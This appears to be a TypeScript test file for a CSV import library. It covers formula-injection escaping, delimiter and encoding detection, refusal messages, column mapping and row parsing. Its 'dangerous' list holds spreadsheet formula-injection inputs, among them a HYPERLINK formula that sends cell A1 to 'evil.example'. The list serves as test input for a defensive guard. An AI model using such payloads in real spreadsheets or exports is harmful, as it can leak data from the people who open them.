import { csvLine } from '@/lib/http/csv';
import { guarded, unguarded } from '@/lib/csv/formula';
import { readCsv, UnreadableFile } from '@/lib/csv/read';
import { guessFields, importFields } from '@/lib/imports/nouns';
import { rowsOf } from '@/lib/imports/rows';

const read = (text: string | Uint8Array, mostRows = 1000) =>
  readCsv(typeof text === 'string' ? new TextEncoder().encode(text) : text, mostRows);
const refusal = (text: string | Uint8Array, mostRows?: number) => {
  try {
    read(text, mostRows);
  } catch (error) {
    if (error instanceof UnreadableFile) return error.message;
    throw error;
  }
  return null;
};

describe('a formula', () => {
  const dangerous = [
    '=1+1',
    '+49 40 1234',
    '-cmd',
    '@sum(A1)',
    '\tx',
    '\r=1',
    '\n=1',
    ' =1+1',
    '\u00a0=1',
    '\uff1dcmd()',
    '\uff0b1',
    '\uff20a',
    '-1.2.3',
    '-1e5',
    '-',
    "'=1",
    "''@x",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ];

  test.each(dangerous)('that begins a cell is text for a spreadsheet: %j', (text) => {
    expect(guarded(text)).toBe(`'${text}`);
  });

  test.each([
    '-12.50',
    '-1',
    '0',
    '1.000001',
    '',
    'a=1',
    "it's",
    "'quoted'",
    '2026-11-21T09:30:00Z',
    'a@b.test',
  ])('is nothing like this, and stays as it is: %j', (text) => {
    expect(guarded(text)).toBe(text);
  });

  test('comes back from a file of ours as it went in', () => {
    const names = dangerous.filter((text) => text === text.trim());
    const { rows } = read(csvLine(['name']) + names.map((name) => csvLine([name])).join(''));
    expect(rows.map(({ cells }) => cells[0])).toEqual(names);
  });

  test('that is imported is text again in the next file', () => {
    const [row] = read('name\n=1+1\n').rows;
    expect(csvLine(row?.cells ?? [])).toBe("'=1+1\r\n");
    expect([guarded('=x'), unguarded("'=x"), unguarded("'tis")]).toEqual(["'=x", '=x', "'tis"]);
  });
});

describe('a file', () => {
  test.each([
    ['commas', 'name,balance\nAda,"1,5"\n', ',', [['Ada', '1,5']]],
    [
      'semicolons, as Excel writes where the comma is decimal',
      'name;balance\r\nAda;12,50\r\n',
      ';',
      [['Ada', '12,50']],
    ],
    ['tabs', 'name\tbalance\nAda\t1', '\t', [['Ada', '1']]],
    ['bars', 'name|balance\nAda|1', '|', [['Ada', '1']]],
    ['one column', 'name\nAda', ',', [['Ada']]],
    ['a name with commas in quotes', '"name, first; last";balance\nAda;1', ';', [['Ada', '1']]],
    ['a line end in quotes', 'name,balance\n"Ada\nLovelace",1', ',', [['Ada\nLovelace', '1']]],
  ])('of %s is read', (_what, text, delimiter, cells) => {
    const table = read(text);
    expect([table.delimiter, table.rows.map((row) => row.cells)]).toEqual([delimiter, cells]);
  });

  const wide = (text: string) => Uint8Array.from(Buffer.from(`\ufeff${text}`, 'utf16le'));

  test.each([
    ['utf-8', new TextEncoder().encode('\ufeffname\nÅsa €')],
    [
      'windows-1252',
      Uint8Array.from(Buffer.concat([Buffer.from('name\n'), Buffer.from([0xc5, 0x73, 0x61, 0x20, 0x80])])),
    ],
    ['utf-16le', wide('name\nÅsa €')],
    ['utf-16be', Uint8Array.from(Buffer.from(wide('name\nÅsa €')).swap16())],
  ])('in %s is read as what it says, without a mark at its begin', (encoding, bytes) => {
    expect(read(bytes)).toMatchObject({ encoding, header: ['name'], rows: [{ line: 2, cells: ['Åsa €'] }] });
  });

  test('counts its rows as a spreadsheet does, empty ones too', () => {
    expect(read('name,x\nAda,\n\n,\nGrace,').rows.map(({ line, cells }) => [line, cells[0]])).toEqual([
      [2, 'Ada'],
      [5, 'Grace'],
    ]);
  });

  test.each([
    ['', 'must begin with a line of column names'],
    ['\n\n', 'must begin with a line of column names'],
    ['name', 'must have at least one row below the column names'],
    ['name\n\n ,\n', 'must have at least one row below the column names'],
    ['name\nAda,1', 'has more cells than columns in row 2'],
    ['name\n"Ada', 'has a quotation mark that is not closed: save it as CSV again'],
    [`${'a,'.repeat(50)}a\n1`, 'must have at most 50 columns'],
    [`name\n${'x'.repeat(2001)}`, 'has a cell of more than 2000 characters in row 2'],
    ['name\na\nb\nc\nd', 'must have at most 3 rows, and has 4: split it'],
    ['PK\u0003\u0004', 'is a workbook: save the sheet as CSV and choose that'],
    ['name\n\0', 'is no text file: save it as CSV'],
    ['x'.repeat(1_000_001), 'must be at most 1 MB'],
  ])('that begins %j is refused, and says why', (text, message) => {
    expect(refusal(text, 3)).toBe(message);
  });
});

describe('columns', () => {
  test.each([
    [
      'customers',
      ['name', 'EMAIL', 'external_id', 'Opening balance', 'x'],
      ['name', 'email', 'external_id', 'balance', null],
    ],
    [
      'customers',
      ['Company', 'E-Mail', 'Customer No.', 'Hourly rate'],
      ['name', 'email', 'external_id', 'hourly_debit_amount'],
    ],
    ['products', ['Article', 'Title', 'Unit price', 'Qty'], ['sku', 'name', 'price', 'stock']],
    // A name of ours wins over a word that others use for it, wherever it stands.
    ['customers', ['id', 'external_id'], [null, 'external_id']],
    ['customers', ['name', 'Name'], ['name', null]],
  ] as const)('of %s named %j are known', (noun, header, fields) => {
    expect(guessFields(noun, header)).toEqual(fields);
  });

  test('have names that no two fields share', () => {
    for (const fields of Object.values(importFields)) {
      const names = fields.flatMap(({ name, aliases }) => [name, ...aliases]);
      expect(new Set(names).size).toBe(names.length);
    }
  });
});

describe('rows', () => {
  const rows = (delimiter: string, ...cells: string[][]) => ({
    delimiter,
    rows: cells.map((each) => ({ line: 2, cells: each })),
  });

  test('leave out what is empty, and what no column is for', () => {
    expect(rowsOf('customers', rows(',', ['Ada', '', 'x']), ['name', 'email', null])).toEqual([
      { name: 'Ada' },
    ]);
  });

  test('read a decimal comma only where commas do not part the cells', () => {
    expect(
      rowsOf('customers', rows(';', ['12,50', '1.000,50', '7.25']), [
        'balance',
        'credit_limit',
        'hourly_debit_amount',
      ]),
    ).toEqual([{ balance: '12.50', credit_limit: '1.000,50', hourly_debit_amount: '7.25' }]);
    expect(rowsOf('customers', rows(',', ['12,50']), ['balance'])).toEqual([{ balance: '12,50' }]);
  });

  test('read choices and states as people write them, and leave the rest for the database to refuse', () => {
    expect(
      rowsOf('customers', rows(',', ['Yes', 'Paused'], ['0', 'ACTIVE'], ['maybe', 'gone']), [
        'postpaid',
        'status',
      ]),
    ).toEqual([
      { postpaid: true, status: 'inactive' },
      { postpaid: false, status: 'active' },
      { postpaid: 'maybe', status: 'gone' },
    ]);
  });
});
